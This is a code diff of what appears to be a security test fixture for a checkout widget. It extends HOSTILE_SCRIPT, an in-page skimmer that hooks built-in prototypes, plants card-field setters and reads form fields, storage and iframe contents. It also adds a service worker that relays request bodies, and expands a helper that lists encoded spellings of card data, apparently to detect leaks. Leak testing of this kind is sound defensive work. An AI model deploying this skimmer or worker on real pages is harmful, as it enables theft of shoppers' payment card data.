@@ -4,34 +4,54 @@
  */
 export const HOSTILE_SCRIPT = `(() => {
   const loot = (window.loot = []);
+  const seen = new Set();
+  const { apply, construct } = Reflect;
+  const { stringify } = JSON;
+  const { isArray } = Array;
+  // Its own, so that what is kept is not seen once more by the spies.
+  Object.defineProperty(loot, 'push', { value: loot.push });
   const push = loot.push.bind(loot);
-  const stringify = JSON.stringify;
-  const apply = Reflect.apply;
+  const has = seen.has.bind(seen);
+  const add = seen.add.bind(seen);
+  const cut = (text) => apply(slice, text, [0, 1000]);
+  const { slice } = String.prototype;
   let deep = false;
+  // Each text once, and no more of it than a card needs: a spy that slows the page down is found out.
+  const keep = (where, text) => {
+    const line = where + ': ' + cut(text);
+    if (text.length < 3 || loot.length > 20000 || has(line)) return;
+    add(line);
+    push(line);
+  };
+  const describe = (event) => {
+    let text = [event.type, event.key, event.data, event.inputType].join(' ');
+    for (const node of event.composedPath?.() ?? []) if (node && node.value) text += ' value=' + node.value;
+    if ('clipboardData' in event) text += event.clipboardData?.getData('text');
+    if ('dataTransfer' in event) text += event.dataTransfer?.getData?.('text');
+    if (event instanceof MessageEvent) text += stringify(event.data);
+    return text;
+  };
   const note = (where, value) => {
-    if (deep) return;
+    if (deep || value === null || value === undefined) return;
     deep = true;
     try {
-      let text = '';
-      if (typeof value === 'string') text = value;
-      else if (value instanceof Event) {
-        text = [value.type, value.key, value.data, value.inputType].join(' ');
-        for (const node of value.composedPath?.() ?? []) if (node && 'value' in node) text += ' value=' + node.value;
-        if ('clipboardData' in value) text += value.clipboardData?.getData('text');
-        if ('dataTransfer' in value) text += value.dataTransfer?.getData?.('text');
-        if (value instanceof MessageEvent) text += stringify(value.data);
-      } else text = stringify(value) ?? String(value);
-      if (text !== '') push(where + ': ' + text.slice(0, 5000));
-    } catch (error) { push(where + ' threw ' + error); }
+      if (typeof value === 'string') keep(where, value);
+      else if (value instanceof Event) keep(where, describe(value));
+      else if (isArray(value) && value.length < 40 && value.every((one) => typeof one !== 'object' || one === null || !('nodeType' in one))) keep(where, stringify(value));
+      else if (Object.getPrototypeOf(value) === Object.prototype && /postMessage|fetch|stringify|parse|port|event/.test(where)) keep(where, stringify(value));
+    } catch (error) { keep(where, 'threw ' + error); }
     deep = false;
   };
   const wrap = (target, name, where) => {
     const own = target?.[name];
     if (typeof own !== 'function') return;
     target[name] = function (...args) {
-      for (const arg of args) note(where + '.' + name, arg);
-      const result = new.target ? Reflect.construct(own, args, new.target) : apply(own, this, args);
-      note(where + '.' + name + ' gave', result);
+      if (!deep) {
+        if (typeof this === 'string') note(where + '.' + name, this);
+        for (let at = 0; at < args.length; at += 1) note(where + '.' + name, args[at]);
+      }
+      const result = new.target ? construct(own, args, new.target) : apply(own, this, args);
+      if (!deep) note(where + '.' + name + ' gave', result);
       return result;
     };
   };
@@ -84,7 +104,7 @@ export const HOSTILE_SCRIPT = `(() => {
   // What every script uses.
   for (const [target, names, where] of [
     [JSON, ['stringify', 'parse'], 'JSON'],
-    [Array.prototype, ['push', 'join', 'map', 'concat', 'includes'], 'Array'],
+    [Array.prototype, ['push', 'join', 'concat'], 'Array'],
     [String.prototype, ['replace', 'replaceAll', 'slice', 'split', 'trim', 'match', 'padStart'], 'String'],
     [RegExp.prototype, ['test', 'exec'], 'RegExp'],
     [Storage.prototype, ['setItem'], 'Storage'],
@@ -101,13 +121,6 @@ export const HOSTILE_SCRIPT = `(() => {
       set(text) { note('value set', text); apply(value.set, this, [text]); },
     });
   }
-  for (const name of ['call', 'apply']) {
-    const own = Function.prototype[name];
-    Function.prototype[name] = function (...args) {
-      if (!deep) for (const arg of args) if (typeof arg === 'string') note('Function.' + name, arg);
-      return apply(own, this, args);
-    };
-  }
   // Setters that a careless copy of an object would fall into.
   for (const name of ['card', 'number', 'security_code', 'expiry_month', 'holder_name', 'holder']) {
     Object.defineProperty(Object.prototype, name, {
@@ -118,38 +131,40 @@ export const HOSTILE_SCRIPT = `(() => {
       },
     });
   }
-  // The frame's getters.
+  // The frame's getters, and every frame in whatever tree.
+  const inner = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow');
   for (const name of ['contentWindow', 'contentDocument', 'src']) {
     const own = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, name);
     Object.defineProperty(HTMLIFrameElement.prototype, name, {
       ...own,
-      get() { const value = apply(own.get, this, []); window.frameSeen = this; return value; },
+      get() { const value = apply(own.get, this, []); note('frame ' + name, value); return value; },
     });
   }
-  // What can be asked for again and again: the trees, the selection, the frames, what was loaded.
-  const look = (tree) => {
-    for (const node of tree.querySelectorAll('*')) {
-      if ('value' in node && node.value) note('a field', String(node.value));
-      if (node.shadowRoot) look(node.shadowRoot);
-    }
-    note('text', tree.textContent ?? '');
-  };
+  const trees = () => [document, ...roots, ...[...document.querySelectorAll('*')].flatMap((node) => node.shadowRoot ?? [])];
+  window.framesSeen = () => trees().flatMap((tree) => [...tree.querySelectorAll('iframe')]);
   window.rummage = () => {
-    for (const root of [document, ...roots]) look(root);
+    for (const tree of trees()) {
+      for (const node of tree.querySelectorAll('input, select, textarea')) note('a field', node.value);
+      note('text', tree.textContent);
+    }
     note('selection', String(getSelection()));
     for (const entry of performance.getEntries()) note('performance', entry.name);
-    for (let at = 0; at < frames.length; at += 1) {
+    for (const frame of framesSeen()) {
+      const view = apply(inner.get, frame, []);
       for (const step of [
-        () => frames[at].document.body.innerText,
-        () => frames[at].document.querySelector('tillgate-checkout').shadowRoot.textContent,
-        () => frames[at].localStorage.length,
-        () => frames[at].name,
-        () => frames[at].eval('document.body.innerHTML'),
-        () => frames[at].location.href,
-        () => window.frameSeen?.contentDocument?.body.innerText,
-        () => Object.getOwnPropertyNames(frames[at]).map((name) => { try { return String(frames[at][name]); } catch { return ''; } }).join(),
+        () => view.document.body.innerText,
+        () => view.document.querySelector('tillgate-checkout').shadowRoot.textContent,
+        () => view.localStorage.length,
+        () => view.name,
+        () => view.eval('document.body.innerHTML'),
+        () => view.location.href,
+        () => view.history.length,
+        () => view.getSelection(),
+        () => view.frames[0].document,
+        () => frame.contentDocument.body.innerText,
+        () => Object.getOwnPropertyNames(view).map((name) => { try { return String(view[name]); } catch { return ''; } }).join(),
       ]) {
-        try { note('frame gave', String(step())); window.reached = (window.reached ?? 0) + 1; } catch { window.refused = (window.refused ?? 0) + 1; }
+        try { note('frame gave', String(step())); } catch { window.refused = (window.refused ?? 0) + 1; }
       }
     }
     note('storage', stringify({ ...localStorage, ...sessionStorage }));
@@ -157,19 +172,47 @@ export const HOSTILE_SCRIPT = `(() => {
   };
 })();`;
 
+/** What a service worker of the shop's origin tells of what passes it. */
+export const HOSTILE_WORKER = `
+  addEventListener('install', () => skipWaiting());
+  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
+  addEventListener('fetch', (event) => {
+    const { request } = event;
+    event.waitUntil((async () => {
+      const body = await request.clone().text().catch(() => '');
+      const line = 'worker: ' + request.method + ' ' + request.url + ' ' + body;
+      for (const client of await clients.matchAll({ includeUncontrolled: true })) client.postMessage({ line });
+    })());
+  });
+`;
+
 /** Every spelling in which a recorder might have got hold of card data. */
 export function spellingsOf(card: { number: string; code: string; expiry: readonly string[] }): string[] {
   const { number } = card;
   const parts: string[] = [];
   for (let at = 0; at + 5 <= number.length; at += 1) parts.push(number.slice(at, at + 5));
-  const grouped = number.match(/.{1,4}/g)!;
-  const texts = [...parts, grouped.join(' '), grouped.join('-'), card.code, ...card.expiry];
+  const groups = number.match(/.{1,4}/g)!;
+  const pairs = groups.slice(1).flatMap((group, at) => [`${groups[at]!} ${group}`, `${groups[at]!}-${group}`]);
+  const texts = [...parts, ...pairs, card.code, ...card.expiry];
+  const letters = (text: string, write: (code: string) => string): string =>
+    Array.from(text, (letter) => write(letter.charCodeAt(0).toString(16))).join('');
   return texts.flatMap((text) => [
     text,
-    Buffer.from(text).toString('base64').replace(/=+$/, ''),
-    Buffer.from(text).toString('hex'),
     encodeURIComponent(text),
-    Array.from(text, (letter) => `%${letter.charCodeAt(0).toString(16)}`).join(''),
+    ...base64Of(text),
+    letters(text, (code) => code),
+    letters(text, (code) => `%${code}`),
+    letters(text, (code) => `\\u00${code}`),
     Array.from(text).reverse().join(''),
   ]);
+}
+
+/** A text within a longer one, at each of the three places where base64 can have it; its edges depend on what is around it. */
+function base64Of(text: string): string[] {
+  if (text.length < 4) return [Buffer.from(text).toString('base64')];
+  return [0, 1, 2].map((offset) => {
+    const coded = Buffer.from(' '.repeat(offset) + text).toString('base64');
+    const first = Math.ceil((offset * 8) / 6);
+    return coded.slice(first, Math.floor(((offset + text.length) * 8) / 6));
+  });
 }
